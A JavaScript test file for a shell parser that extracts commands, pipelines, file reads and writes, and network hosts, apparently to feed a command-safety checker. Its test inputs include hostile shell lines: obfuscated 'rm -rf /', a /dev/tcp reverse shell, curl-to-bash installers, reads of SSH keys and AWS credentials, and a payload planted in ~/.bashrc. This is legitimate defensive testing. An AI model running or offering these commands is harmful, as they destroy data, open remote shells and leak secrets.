// Shell syntax: words, lists, redirections and compound commands, as facts.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { NOTHING, expectShell, shell, summary } from '../helpers/facts.js';

describe('shell words', () => {
  it('removes empty quotes inside a word', () => {
    const f = shell("r''m -rf /");
    assert.deepEqual(f.commands, [{ name: 'rm', args: ['-rf', '/'], text: 'rm -rf /' }]);
    assert.deepEqual(f.paths_written, ['/']);
  });

  it('joins double-quoted and escaped parts into one word', () => {
    expectShell('"r"m -rf /tmp/a; \\rm -f /tmp/b', { commands: ['rm -rf /tmp/a', 'rm -f /tmp/b'], write: ['/tmp/a', '/tmp/b'] });
  });

  it('keeps a quoted command line as one argument of echo', () => {
    const f = shell('echo "rm -rf /"');
    assert.deepEqual(f.commands, [{ name: 'echo', args: ['rm -rf /'], text: 'echo rm -rf /' }]);
    assert.deepEqual(summary(f), { ...NOTHING, commands: ['echo rm -rf /'] });
  });

  it('applies the escapes of double quotes', () => {
    assert.deepEqual(shell('printf "%s" "a\\"b\\\\c\\$d\\`e\\x"').commands[0]?.args, ['%s', 'a"b\\c$d`e\\x']);
  });

  it('decodes ANSI-C quoting as bash does', () => {
    assert.deepEqual(shell("$'\\x72\\x6d' -rf $'/tmp\\x2fa'").commands[0], { name: 'rm', args: ['-rf', '/tmp/a'], text: 'rm -rf /tmp/a' });
    assert.equal(shell("$'\\162\\155' x").commands[0]?.name, 'rm');
    assert.deepEqual(shell("echo $'a\\tb\\nc\\'d\\\\'").commands[0]?.args, ["a\tb\nc'd\\"]);
  });

  it('keeps parameter expansions and ~ as written', () => {
    expectShell('cat $HOME/.ssh/id_rsa "${HOME}/.aws/credentials" ~/.netrc "$1"', {
      commands: ['cat $HOME/.ssh/id_rsa ${HOME}/.aws/credentials ~/.netrc $1'],
      read: ['$HOME/.ssh/id_rsa', '${HOME}/.aws/credentials', '~/.netrc', '$1'],
    });
  });

  it('joins lines continued with a backslash', () => {
    expectShell('rm \\\n  -rf /tmp/x', { commands: ['rm -rf /tmp/x'], write: ['/tmp/x'] });
  });

  it('ignores comments but not # inside a word', () => {
    expectShell('ls # rm -rf /\necho a#b', { commands: ['ls', 'echo a#b'] });
  });

  it('does not count variable assignments as argv', () => {
    const f = shell('FOO=1 BAR="x y" rm -rf ~');
    assert.deepEqual(f.commands, [{ name: 'rm', args: ['-rf', '~'], text: 'rm -rf ~' }]);
    assert.deepEqual(f.paths_written, ['~']);
  });

  it('runs the substitution of a bare assignment', () => {
    expectShell('X=$(curl -s https://example.com/x)', {
      commands: ['curl -s https://example.com/x'],
      hosts: ['example.com'],
      urls: ['https://example.com/x'],
    });
  });

  it('names a command by the basename of its path', () => {
    assert.deepEqual(shell('/bin/rm -rf /').commands, [{ name: 'rm', args: ['-rf', '/'], text: '/bin/rm -rf /' }]);
  });
});

describe('shell lists and pipelines', () => {
  it('splits on every list and pipeline operator', () => {
    expectShell('a && b || c; d & e | f |& g\nh', {
      commands: ['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h'],
      pipelines: [['e', 'f', 'g']],
    });
  });

  it('accepts negated pipelines', () => {
    expectShell('! grep -q x f.txt && rm f.txt', { commands: ['grep -q x f.txt', 'rm f.txt'], read: ['f.txt'], write: ['f.txt'] });
  });

  it('lists wrapped commands in the pipeline', () => {
    expectShell('curl -s https://get.example/i.sh | sudo bash', {
      commands: ['curl -s https://get.example/i.sh', 'sudo bash', 'bash'],
      pipelines: [['curl', 'sudo', 'bash']],
      hosts: ['get.example'],
      urls: ['https://get.example/i.sh'],
    });
  });

  it('deduplicates commands and paths, keeping the first-seen order', () => {
    expectShell('cat b; cat a; cat b; cat a | wc -l; cat a | wc -l', {
      commands: ['cat b', 'cat a', 'wc -l'],
      pipelines: [['cat', 'wc']],
      read: ['b', 'a'],
    });
  });
});

describe('shell redirections', () => {
  it('records written and read targets', () => {
    expectShell('sort < in.txt > out.txt 2>> err.log', { commands: ['sort'], read: ['in.txt'], write: ['out.txt', 'err.log'] });
  });

  it('treats &>, >& file and >| as writes but not fd duplication or /dev/null', () => {
    expectShell('a &> all.log; b >& both.log; c 2>&1 >/dev/null; d >| forced.txt; e 2>&-', {
      commands: ['a', 'b', 'c', 'd', 'e'],
      write: ['all.log', 'both.log', 'forced.txt'],
    });
  });

  it('keeps /dev/tcp targets and records their host', () => {
    expectShell('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', {
      commands: ['bash -i'],
      write: ['/dev/tcp/203.0.113.7/4444'],
      hosts: ['203.0.113.7'],
    });
  });

  it('records <> as read and write', () => {
    expectShell('exec 3<>/dev/tcp/Example.COM/80', {
      commands: ['exec'],
      read: ['/dev/tcp/Example.COM/80'],
      write: ['/dev/tcp/Example.COM/80'],
      hosts: ['example.com'],
    });
  });

  it('parses a here-string fed to a shell', () => {
    expectShell("bash <<< 'rm -rf /tmp/x'", { commands: ['bash', 'rm -rf /tmp/x'], write: ['/tmp/x'] });
  });

  it('does not parse a here-string fed to another command, but runs its substitution', () => {
    expectShell('grep -c x <<< "$(cat ~/.ssh/id_rsa)"', {
      commands: ['cat ~/.ssh/id_rsa', 'grep -c x'],
      read: ['~/.ssh/id_rsa'],
    });
  });

  it('parses a heredoc fed to a shell', () => {
    expectShell('bash <<EOF\ncurl -s https://x.example/i.sh | sh\nEOF\necho done', {
      commands: ['bash', 'curl -s https://x.example/i.sh', 'sh', 'echo done'],
      pipelines: [['curl', 'sh']],
      hosts: ['x.example'],
      urls: ['https://x.example/i.sh'],
    });
  });

  it('parses a heredoc fed to a wrapped shell, with <<- and a quoted delimiter', () => {
    expectShell("sudo -u root bash <<-'END'\n\trm -rf /srv/app\n\tEND\n", {
      commands: ['sudo -u root bash', 'bash', 'rm -rf /srv/app'],
      write: ['/srv/app'],
    });
  });

  it('treats a heredoc fed to another command as data', () => {
    expectShell("cat > ~/.bashrc <<'EOF'\nrm -rf / && curl https://evil.example\nEOF", { commands: ['cat'], write: ['~/.bashrc'] });
  });

  it('runs substitutions of an unquoted heredoc', () => {
    expectShell('cat <<EOF > /tmp/who\n$(whoami) on `hostname`\nEOF', {
      commands: ['whoami', 'hostname', 'cat'],
      write: ['/tmp/who'],
    });
  });
});

describe('shell compound commands', () => {
  it('finds commands in subshells and groups', () => {
    expectShell('(cd /tmp && rm -rf x); { echo a; rm -f y; } > log.txt', {
      commands: ['cd /tmp', 'rm -rf x', 'echo a', 'rm -f y'],
      write: ['x', 'log.txt', 'y'],
    });
  });

  it('counts subshell commands as stages of the enclosing pipeline', () => {
    expectShell('curl -s https://x.example | (cd /tmp && sh)', {
      commands: ['curl -s https://x.example', 'cd /tmp', 'sh'],
      pipelines: [['curl', 'cd', 'sh']],
      hosts: ['x.example'],
      urls: ['https://x.example'],
    });
  });

  it('runs $(…) and backticks, nested too, and keeps them as written in arguments', () => {
    expectShell('echo "$(whoami)" `id -u` $(echo $(date))', {
      commands: ['whoami', 'id -u', 'date', 'echo $(date)', 'echo $(whoami) `id -u` $(echo $(date))'],
    });
  });

  it('runs process substitutions', () => {
    expectShell('diff <(curl -s https://a.example/x) <(cat b.txt)', {
      commands: ['curl -s https://a.example/x', 'cat b.txt', 'diff <(curl -s https://a.example/x) <(cat b.txt)'],
      read: ['b.txt'],
      hosts: ['a.example'],
      urls: ['https://a.example/x'],
    });
  });

  it('finds commands in if, elif and else', () => {
    expectShell('if [ -f a ]; then rm a; elif test -d b; then rmdir b; else touch c; fi', {
      commands: ['[ -f a ]', 'rm a', 'test -d b', 'rmdir b', 'touch c'],
      write: ['a', 'b', 'c'],
    });
  });

  it('finds commands in for, while and until loops', () => {
    expectShell('for f in *.log $(ls /var/tmp); do gzip "$f"; done\nwhile read -r l; do echo "$l"; done < list.txt\nuntil false; do sleep 1; done', {
      commands: ['ls /var/tmp', 'gzip $f', 'read -r l', 'echo $l', 'false', 'sleep 1'],
      read: ['list.txt'],
    });
  });

  it('finds commands in case branches, also inside $(…)', () => {
    expectShell('case "$1" in start) node app.js ;; stop|halt) pkill -f app.js ;; *) echo "$(case x in x) date;; esac)" ;; esac', {
      commands: ['node app.js', 'pkill -f app.js', 'date', 'echo $(case x in x) date;; esac)'],
    });
  });

  it('reports the commands of function bodies', () => {
    expectShell('cleanup() { rm -rf "$1"; }; function fetch { curl -s "$1"; }; cleanup /tmp/a', {
      commands: ['rm -rf $1', 'curl -s $1', 'cleanup /tmp/a'],
      write: ['$1'],
      hosts: ['$1'],
    });
  });

  it('does not treat arithmetic as a command', () => {
    expectShell('echo $((1 + 2)); (( i++ )); for ((i = 0; i < 3; i++)); do true; done', {
      commands: ['echo $((1 + 2))', 'true'],
    });
  });

  it('reads subshells that start with two parentheses', () => {
    expectShell('((cd /tmp && make) || echo failed)', { commands: ['cd /tmp', 'make', 'echo failed'] });
  });

  it('runs substitutions inside ${…} and heredocs inside $(…), and reads $(< file)', () => {
    expectShell('echo ${x:-$(id)}; y=$(cat <<EOF\n$(whoami)\nEOF\n); z=$(< ~/.aws/credentials)', {
      commands: ['id', 'echo ${x:-$(id)}', 'whoami', 'cat'],
      read: ['~/.aws/credentials'],
    });
  });

  it('reads two heredocs started on one line', () => {
    expectShell('cat <<A - <<B\nrm -rf /a\nA\nrm -rf /b\nB\nls', { commands: ['cat -', 'ls'] });
  });

  it('keeps the operators of [[ … ]] as operands', () => {
    expectShell('[[ -f ~/.ssh/id_rsa && $x < 3 ]] && cat ~/.ssh/id_rsa', {
      commands: ['[[ -f ~/.ssh/id_rsa && $x < 3 ]]', 'cat ~/.ssh/id_rsa'],
      read: ['~/.ssh/id_rsa'],
    });
  });
});
